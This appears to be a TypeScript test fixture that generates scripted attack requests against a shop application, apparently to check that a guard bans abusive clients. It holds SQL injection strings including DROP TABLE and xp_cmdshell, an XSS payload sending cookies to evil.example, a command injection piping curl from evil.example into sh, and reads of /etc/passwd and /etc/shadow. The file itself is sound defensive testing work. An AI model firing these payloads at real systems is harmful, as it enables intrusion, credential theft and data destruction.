import type { ScriptedRequest } from './scripted-request';

const search = (text: string): string => `/search?q=${encodeURIComponent(text)}`;

/** Fourteen attempts of one client: the threshold for a ban is ten. */
export function sqlInjection(from: string): ScriptedRequest[] {
  const kind = 'attack: SQL injection';
  const texts = [
    "1' UNION SELECT login, password FROM users--",
    "' OR '1'='1' --",
    '1; DROP TABLE orders--',
    "x' AND 1=CAST((SELECT version()) AS int)--",
    "1' AND SLEEP(5)--",
    "'; EXEC xp_cmdshell('dir')--",
    "1' UNION ALL SELECT table_name FROM information_schema.tables--",
  ];
  return [
    ...texts.map((text) => ({ kind, from, path: search(text) })),
    ...texts.slice(1, 5).map((text) => ({ kind, from, path: '/products/s-301/reviews', body: { text } })),
    ...texts.slice(0, 3).map((note) => ({ kind, from, path: '/orders', body: { lines: [], note } })),
  ];
}

export function crossSiteScripting(from: string): ScriptedRequest[] {
  const kind = 'attack: cross-site scripting';
  return [
    '<script>fetch("//evil.example/"+document.cookie)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(document.domain)>',
    '<a href="javascript:alert(1)">free kettle</a>',
  ].map((text) => ({ kind, from, path: '/products/k-201/reviews', body: { text } }));
}

export function traversalAndCommands(from: string): ScriptedRequest[] {
  const kind = 'attack: paths and commands';
  return [
    { kind, from, path: '/products/..%2f..%2f..%2fetc%2fpasswd' },
    { kind, from, path: '/search?q=..%2f..%2f..%2f..%2fetc%2fshadow' },
    { kind, from, path: search('; cat /etc/passwd') },
    { kind, from, path: search('$(curl http://evil.example/x.sh | sh)') },
  ];
}

/** Paths that this shop does not have: no guard of Nest sees them, the unmatched-requests door does. */
export function probesForSecrets(from: string): ScriptedRequest[] {
  const paths = [
    '/.env',
    '/.git/config',
    '/wp-login.php',
    '/wp-admin/setup-config.php',
    '/phpmyadmin/index.php',
  ];
  return paths.map((path) => ({ kind: 'attack: looks for secrets', from, path }));
}

export function scanner(from: string): ScriptedRequest[] {
  const paths = ['/products', '/search?q=1', '/orders/1'];
  return paths.map((path) => ({ kind: 'attack: sqlmap', from, path, userAgent: 'sqlmap/1.8.2#stable' }));
}

export function passwordGuessing(from: string): ScriptedRequest[] {
  return Array.from({ length: 20 }, (_, i) => ({
    kind: 'attack: guesses passwords',
    from,
    path: '/login',
    body: { email: 'anna@shop.example', password: `summer${i}` },
  }));
}

export function adminFromOutside(from: string): ScriptedRequest[] {
  const paths = ['/admin/orders', '/admin/guard', '/admin/orders'];
  return paths.map((path) => ({ kind: 'attack: admin from outside', from, path }));
}
